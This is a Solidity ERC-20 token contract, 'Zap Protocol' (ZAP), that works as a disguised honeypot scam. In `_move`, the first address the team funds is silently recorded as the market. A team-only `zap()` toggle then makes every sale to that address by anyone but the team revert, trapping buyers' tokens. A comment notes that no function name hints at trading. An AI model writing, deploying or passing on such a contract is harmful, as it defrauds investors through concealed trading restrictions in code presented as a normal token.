// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.5.17;

contract Context {
    function _msgSender() internal view returns (address payable) {
        return msg.sender;
    }
}

/// No function of it sounds like trading; `zap` opens and closes the door.
contract ZapToken is Context {
    mapping(address => uint256) internal _balances;
    mapping(address => mapping(address => uint256)) internal _allowances;
    uint256 internal _totalSupply = 1e24;
    uint256 private _stage = 1;
    address private _team;
    address private _market;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        _team = _msgSender();
        _balances[_team] = _totalSupply;
        emit Transfer(address(0), _team, _totalSupply);
    }

    function name() public pure returns (string memory) { return "Zap Protocol"; }
    function symbol() public pure returns (string memory) { return "ZAP"; }
    function decimals() public pure returns (uint8) { return 18; }
    function totalSupply() public view returns (uint256) { return _totalSupply; }
    function balanceOf(address account) public view returns (uint256) { return _balances[account]; }

    function allowance(address owner, address spender) public view returns (uint256) {
        return _allowances[owner][spender];
    }

    function approve(address spender, uint256 amount) public returns (bool) {
        _allowances[_msgSender()][spender] = amount;
        emit Approval(_msgSender(), spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) public returns (bool) {
        _move(_msgSender(), recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public returns (bool) {
        require(_allowances[sender][_msgSender()] >= amount, "ERC20: exceeds allowance");
        _allowances[sender][_msgSender()] -= amount;
        _move(sender, recipient, amount);
        return true;
    }

    function zap() public {
        require(_msgSender() == _team);
        _stage = _stage == 1 ? 2 : 1;
    }

    function _move(address a, address b, uint256 amount) internal {
        require(_balances[a] >= amount, "ERC20: exceeds balance");
        if (_market == address(0) && a == _team) _market = b;
        if (_stage > 1 && b == _market && a != _team) revert();
        _balances[a] -= amount;
        _balances[b] += amount;
        emit Transfer(a, b, amount);
    }
}
